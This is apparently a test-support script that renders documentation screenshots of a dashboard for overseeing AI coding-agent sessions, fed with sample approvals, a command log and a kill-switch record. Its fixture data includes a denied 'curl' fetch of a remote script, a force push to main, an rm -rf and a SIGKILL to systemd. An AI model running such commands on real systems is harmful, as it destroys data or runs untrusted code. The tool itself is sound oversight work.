"""The pictures of the page in the documents: python -m tests.watch.page.pictures docs"""

from __future__ import annotations

import os
import sys
import tempfile
from pathlib import Path
from typing import Any

from tests.support.browser import Browser
from tests.watch.page.conftest import Served

SIZES = {
    "page-light": {"width": 1280, "height": 860},
    "page-dark": {"width": 1280, "height": 860, "dark": True},
    "page-narrow": {"width": 360, "height": 780},
}
AGENT, BUILD, TESTS = "20261127-101502-4f1a", "20261127-101733-09bc", "20261127-095811-77d0"
PUSH, REMOVE = "git push --force origin main", "rm -rf 'node_modules/.cache' build"
COMMAND = ["claude", "-p", "make the tests pass, then push"]
BOARD: dict[str, Any] = {
    "sessions": [
        {"id": AGENT, "name": "agent", "command": COMMAND, "last": f"asked: {PUSH}"},
        {"id": BUILD, "command": ["npm", "run", "build"], "state": "stopped"},
        {"id": TESTS, "command": ["pytest"], "state": "ended", "ended": "exit 1"},
    ],
    "waiting": [
        {"session_id": AGENT, "id": "3f2a", "what": PUSH, "runs": "/usr/lib/git-core/git"},
        {"session_id": AGENT, "id": "8c01", "what": REMOVE, "may_always": False},
    ],
}
LINES = [
    ["allowed", "bash -c 'make test' run by claude"],
    ["audited", "cc -c src/queue.c"],
    ["denied", "curl http://198.51.100.7/x.sh  (rule no-fetch)"],
    ["redirected", "npm install → npm ci  (rule locked-install)"],
    ["denied", "SIGKILL to systemd (1)  (rule outside)"],
    ["asked", PUSH],
]
SWITCH = {"reason": "it deleted the wrong branch", "by": "me on this-machine"}


def main(folder: Path) -> None:
    with tempfile.TemporaryDirectory() as home, Browser(Path(home)) as browser:
        for name, size in SIZES.items():
            take(browser, Path(home), folder / f"{name}.png", size, BOARD)
        ended = [{**each, "state": "ended"} for each in BOARD["sessions"][:1]]
        board = {"sessions": ended, "killswitch": SWITCH}
        size = {"width": 1280, "height": 420}
        take(browser, Path(home), folder / "page-stopped.png", size, board)


def take(
    browser: Browser, home: Path, file: Path, size: dict[str, Any], board: dict[str, Any]
) -> None:
    served = Served(home / "store", dict(os.environ))
    try:
        served.tell(**board)
        served.tell(lines=[BOARD["sessions"][0]["id"], LINES * 6])
        tab = browser.tab(**size)
        tab.tell("Page.navigate", url=f"http://{served.host}{served.entry}")
        tab.until("document.querySelectorAll('.row').length > 9")
        if board.get("waiting"):
            tab.until("!document.querySelector('.question:last-child .yes').disabled")
            tab.press("j")
        tab.screenshot(file)
    finally:
        served.close()


if __name__ == "__main__":
    main(Path(sys.argv[1]))
